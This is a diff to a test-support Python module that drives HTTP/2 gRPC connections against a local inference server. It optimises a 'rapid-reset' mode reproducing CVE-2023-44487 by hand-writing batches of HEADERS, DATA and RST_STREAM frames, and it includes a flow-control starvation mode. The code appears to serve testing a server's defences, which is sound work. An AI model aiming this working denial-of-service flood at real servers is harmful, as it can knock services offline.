@@ -2,22 +2,22 @@
 open and reset streams as fast as it can (the HTTP/2 rapid-reset pattern, CVE-2023-44487), or
 ask for answers and leave them unread behind a small flow-control window.
 
-As a library: ``H2GrpcConnection(port)`` opens a connection to 127.0.0.1 (preface and
-SETTINGS), ``open_infer(request_bytes)`` starts a ModelInfer call (HEADERS, then one gRPC
-message in DATA with its 5-byte prefix), ``reset(stream)`` sends RST_STREAM(CANCEL), and
-``receive`` / ``wait_until`` read frames into ``streams``, ``goaway`` and ``remote_settings``.
-With ``acknowledge_data=False`` it never sends a WINDOW_UPDATE, so the server can send each
-stream ``initial_window_size`` bytes of DATA and the whole connection 65,535, no more.
+As a library: ``H2GrpcConnection(port)`` connects to 127.0.0.1 and sends the preface and
+SETTINGS; ``open_infer(request_bytes)`` starts a ModelInfer call (HEADERS, then the message
+in DATA with gRPC's 5-byte prefix); ``reset(stream)`` sends RST_STREAM(CANCEL); ``receive``
+and ``wait_until`` read frames into ``streams``, ``goaway`` and ``remote_settings``. With
+``acknowledge_data=False`` it never sends a WINDOW_UPDATE: the server may send each stream
+``initial_window_size`` bytes of DATA and the whole connection 65,535, no more.
 
-As a program, from its own process so that its CPU work does not share the measuring side's
+As a program, in its own process so that its CPU work does not share the measuring side's
 interpreter::
 
-    python tests/support/h2_grpc.py rapid-reset ADDRESS SECONDS MODEL INPUT
+    python tests/support/h2_grpc.py rapid-reset ADDRESS SECONDS MODEL INPUT WIDTH
 
 opens ModelInfer streams on one connection (HEADERS + DATA with a valid one-row FP32
-request, then RST_STREAM CANCEL) as fast as it can for SECONDS, prints ``started`` once the
-first batch is on the wire, then one JSON line: streams opened, streams per second, and the
-GOAWAY the server sent if any (error code, last stream id).
+request of WIDTH values, then RST_STREAM CANCEL) as fast as it can for SECONDS, prints
+``started`` once the first streams are on the wire, then one JSON line: streams opened,
+streams per second, the GOAWAY the server sent if any, and what stopped it early if anything.
 """
 
 from __future__ import annotations
@@ -25,21 +25,29 @@ from __future__ import annotations
 import json
 import select
 import socket
+import struct
 import sys
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from urllib.parse import unquote
 
 import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
+import hpack
 from h2.errors import ErrorCodes
 from h2.settings import SettingCodes, Settings
 
 INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
 DEFAULT_WINDOW = 65535  # HTTP/2's initial window, per stream and for the connection
-RESET_BATCH = 64  # streams built per write in rapid-reset mode
+
+# Frame types and flags (RFC 9113 section 6).
+DATA, HEADERS, RST_STREAM, PING, GOAWAY = 0x0, 0x1, 0x3, 0x6, 0x7
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+
+RESET_BATCH = 256  # streams per write in rapid-reset mode (~35 KB)
 
 
 @dataclass
@@ -58,8 +66,6 @@ class StreamState:
 
     @property
     def grpc_message(self) -> str:
-        from urllib.parse import unquote
-
         return unquote(self.headers.get("grpc-message", ""))
 
 
@@ -74,6 +80,19 @@ def grpc_frame(message: bytes) -> bytes:
     return b"\x00" + len(message).to_bytes(4, "big") + message
 
 
+def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
+    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) \
+        + stream_id.to_bytes(4, "big") + payload
+
+
+def error_name(code: int) -> str:
+    try:
+        return ErrorCodes(code).name
+    except ValueError:
+        return str(code)
+
+
 class H2GrpcConnection:
     def __init__(self, port: int, *, host: str = "127.0.0.1",
                  initial_window_size: int = DEFAULT_WINDOW, acknowledge_data: bool = True,
@@ -81,9 +100,17 @@ class H2GrpcConnection:
         self.authority = f"{host}:{port}"
         self.acknowledge_data = acknowledge_data
         self.streams: dict[int, StreamState] = {}
-        self.goaway: GoAway | None = None
-        self.closed = False  # the server closed the TCP connection
+        self.goaway: GoAway | None = None  # the first GOAWAY the server sent
+        self.closed = False  # the TCP connection is closed (by the server, or by close())
         self.settings_received = False
+        # h2 refuses every frame but GOAWAY after a GOAWAY (and grpc follows its GOAWAY with
+        # a PING): its first error stops h2's part, while GOAWAY frames are read apart.
+        self.h2_error: str | None = None
+        # Raw mode (rapid reset): frames are written by hand and h2 is left behind; only
+        # GOAWAY is noted and PINGs are acknowledged.
+        self.raw = False
+        self._raw_out = bytearray()
+        self._unscanned = bytearray()
         self.sock = socket.create_connection((host, port), timeout=timeout)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.setblocking(False)
@@ -112,24 +139,24 @@ class H2GrpcConnection:
 
     def open_infer(self, message: bytes, *, path: str = INFER_PATH,
                    timeout: float = 10.0) -> int:
-        """Start a unary call: HEADERS, then ``message`` framed in DATA (END_STREAM)."""
+        """Start a unary call: HEADERS, then ``message`` framed in DATA (END_STREAM), within
+        the server's flow-control windows."""
         deadline = time.monotonic() + timeout
         stream_id = self.h2.get_next_available_stream_id()
         self.streams[stream_id] = StreamState()
         self.h2.send_headers(stream_id, self.headers(path))
         data = memoryview(grpc_frame(message))
-        while True:  # within the server's flow-control windows
-            room = min(self.h2.local_flow_control_window(stream_id), self.h2.max_outbound_frame_size,
-                       len(data))
-            if room == 0 and data:
+        while data:
+            room = min(self.h2.local_flow_control_window(stream_id),
+                       self.h2.max_outbound_frame_size, len(data))
+            if room == 0:
                 self.flush(deadline)
-                if not self.receive(deadline - time.monotonic()) and time.monotonic() > deadline:
+                self.receive(min(deadline - time.monotonic(), 0.1))
+                if time.monotonic() > deadline:
                     raise TimeoutError("the server opened no flow-control window")
                 continue
             self.h2.send_data(stream_id, data[:room].tobytes(), end_stream=room == len(data))
             data = data[room:]
-            if not data:
-                break
         self.flush(deadline)
         return stream_id
 
@@ -138,9 +165,12 @@ class H2GrpcConnection:
         self.flush(time.monotonic() + 10)
 
     def flush(self, deadline: float) -> None:
-        """Write what h2 has queued, reading whatever arrives meanwhile (a peer that cannot
-        write to us may stop reading from us)."""
-        pending = memoryview(self.h2.data_to_send())
+        self.send(b"", deadline)
+
+    def send(self, data: bytes | bytearray, deadline: float) -> None:
+        """Write ``data`` and whatever h2 (or raw mode) has queued, reading what arrives
+        meanwhile: a peer that cannot write to us may stop reading from us."""
+        pending = memoryview(bytes(data) + self._queued())
         while pending:
             left = deadline - time.monotonic()
             if left <= 0:
@@ -148,13 +178,21 @@ class H2GrpcConnection:
             readable, writable, _ = select.select([self.sock], [self.sock], [], left)
             if readable:
                 self._read_once()
-                pending = memoryview(bytes(pending) + self.h2.data_to_send())
+                queued = self._queued()
+                if queued:
+                    pending = memoryview(bytes(pending) + queued)
             if writable:
                 try:
                     sent = self.sock.send(pending)
                 except BlockingIOError:
                     continue
                 pending = pending[sent:]
+
+    def _queued(self) -> bytes:
+        if self.raw:
+            queued, self._raw_out = bytes(self._raw_out), bytearray()
+            return queued
+        return self.h2.data_to_send()
 
     def close(self) -> None:
         try:
@@ -165,14 +203,15 @@ class H2GrpcConnection:
     # -- receiving --------------------------------------------------------------------------
 
     def receive(self, timeout: float) -> bool:
-        """Wait up to ``timeout`` for bytes, feed them to h2; False when none came."""
+        """Wait up to ``timeout`` for bytes and take them in; False when none came."""
         if self.closed:
             return False
         readable, _, _ = select.select([self.sock], [], [], max(timeout, 0))
         if not readable:
             return False
         self._read_once()
-        self.flush(time.monotonic() + 10)  # SETTINGS and PING acknowledgements
+        if not self.closed:
+            self.flush(time.monotonic() + 10)  # SETTINGS and PING acknowledgements
         return True
 
     def wait_until(self, condition: Callable[[], bool], timeout: float) -> bool:
@@ -194,20 +233,42 @@ class H2GrpcConnection:
         if not data:
             self.closed = True
             return
-        for event in self.h2.receive_data(data):
+        self._scan(data)
+        if self.raw or self.h2_error is not None:
+            return
+        try:
+            events = self.h2.receive_data(data)
+        except h2.exceptions.ProtocolError as exc:
+            self.h2_error = f"{type(exc).__name__}: {exc}"
+            return
+        for event in events:
             self._handle(event)
 
+    def _scan(self, data: bytes) -> None:
+        """Walk the frame headers (9 bytes: length, type, flags, stream) for GOAWAY, and in
+        raw mode for PINGs to acknowledge."""
+        buffer = self._unscanned
+        buffer += data
+        while len(buffer) >= 9:
+            length = int.from_bytes(buffer[0:3], "big")
+            if len(buffer) < 9 + length:
+                break
+            kind, flags = buffer[3], buffer[4]
+            if kind == GOAWAY and self.goaway is None and length >= 8:
+                last_stream = int.from_bytes(buffer[9:13], "big") & 0x7FFFFFFF
+                self.goaway = GoAway(int.from_bytes(buffer[13:17], "big"), last_stream)
+            elif kind == PING and self.raw and not flags & ACK:
+                self._raw_out += frame(PING, ACK, 0, bytes(buffer[9:9 + length]))
+            del buffer[:9 + length]
+
     def _handle(self, event: h2.events.Event) -> None:
+        state = self.streams.get(getattr(event, "stream_id", 0) or 0)
         if isinstance(event, h2.events.RemoteSettingsChanged):
             self.settings_received = True
-        elif isinstance(event, h2.events.ConnectionTerminated):
-            self.goaway = GoAway(int(event.error_code or 0), int(event.last_stream_id or 0))
         elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
-            state = self.streams.get(event.stream_id)
             if state is not None:
                 state.headers.update(dict(event.headers))
         elif isinstance(event, h2.events.DataReceived):
-            state = self.streams.get(event.stream_id)
             if state is not None:
                 state.data_bytes += len(event.data)
             if self.acknowledge_data and event.flow_controlled_length:
@@ -217,39 +278,51 @@ class H2GrpcConnection:
                 except h2.exceptions.StreamClosedError:
                     pass
         elif isinstance(event, h2.events.StreamEnded):
-            state = self.streams.get(event.stream_id)
             if state is not None:
                 state.ended = True
         elif isinstance(event, h2.events.StreamReset):
-            state = self.streams.get(event.stream_id)
             if state is not None:
                 state.reset_code = int(event.error_code)
 
 
 def rapid_reset(port: int, seconds: float, message: bytes,
                 on_started: Callable[[], None] = lambda: None) -> dict[str, object]:
-    """Open, send and reset streams on one connection as fast as h2 lets this process."""
+    """Open, send and reset streams on one connection as fast as this process can write.
+
+    h2 sets the connection up; then the frames are written by hand (h2's per-stream state
+    would take most of this process's time): one HEADERS block of HPACK literals that are
+    never indexed, so that the same bytes are valid on every stream, the request in DATA,
+    RST_STREAM(CANCEL); a batch of them is built once and only the stream ids change.
+    """
     connection = H2GrpcConnection(port)
-    connection.wait_until(lambda: connection.settings_received, 10)
-    h2conn = connection.h2
-    headers = connection.headers()
-    framed = grpc_frame(message)
+    if not connection.wait_until(lambda: connection.settings_received, 10):
+        raise TimeoutError("no SETTINGS from the server")
+    block = hpack.Encoder().encode(
+        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in connection.headers()])
+    data = grpc_frame(message)
+    cancel = int(ErrorCodes.CANCEL).to_bytes(4, "big")
+    one = frame(HEADERS, END_HEADERS, 0, block) + frame(DATA, END_STREAM, 0, data) \
+        + frame(RST_STREAM, 0, 0, cancel)
+    id_offsets = (5, 9 + len(block) + 5, 9 + len(block) + 9 + len(data) + 5)
+    batch = bytearray(one * RESET_BATCH)
+    next_id = connection.h2.get_next_available_stream_id()
+    connection.raw = True
     opened, failure = 0, None
     start = time.monotonic()
     end = start + seconds
     try:
         while time.monotonic() < end and connection.goaway is None and not connection.closed:
-            for _ in range(RESET_BATCH):
-                stream_id = h2conn.get_next_available_stream_id()
-                h2conn.send_headers(stream_id, headers)
-                h2conn.send_data(stream_id, framed, end_stream=True)
-                h2conn.reset_stream(stream_id, ErrorCodes.CANCEL)
-            connection.flush(end + 5)
+            for i in range(RESET_BATCH):
+                base = i * len(one)
+                for offset in id_offsets:
+                    struct.pack_into(">I", batch, base + offset, next_id)
+                next_id += 2
+            connection.send(batch, end + 5)
             if opened == 0:
                 on_started()
             opened += RESET_BATCH
             connection.receive(0)
-    except (TimeoutError, OSError, h2.exceptions.ProtocolError) as exc:
+    except (TimeoutError, OSError) as exc:
         failure = f"{type(exc).__name__}: {exc}"
     elapsed = time.monotonic() - start
     if connection.goaway is None and not connection.closed:
@@ -261,9 +334,7 @@ def rapid_reset(port: int, seconds: float, message: bytes,
         "seconds": round(elapsed, 3),
         "streams_per_s": round(opened / elapsed) if elapsed else 0,
         "goaway": None if goaway is None else {
-            "error_code": goaway.error_code,
-            "error_name": ErrorCodes(goaway.error_code).name
-            if goaway.error_code in ErrorCodes._value2member_map_ else str(goaway.error_code),
+            "error_code": goaway.error_code, "error_name": error_name(goaway.error_code),
             "last_stream_id": goaway.last_stream_id,
         },
         "failure": failure,
@@ -294,8 +365,8 @@ def main(argv: list[str]) -> int:
     def started() -> None:
         print("started", flush=True)
 
-    result = rapid_reset(int(port), float(seconds), one_row_request(model, input_name, int(width)),
-                         on_started=started)
+    result = rapid_reset(int(port), float(seconds),
+                         one_row_request(model, input_name, int(width)), on_started=started)
     print(json.dumps(result), flush=True)
     return 0
 
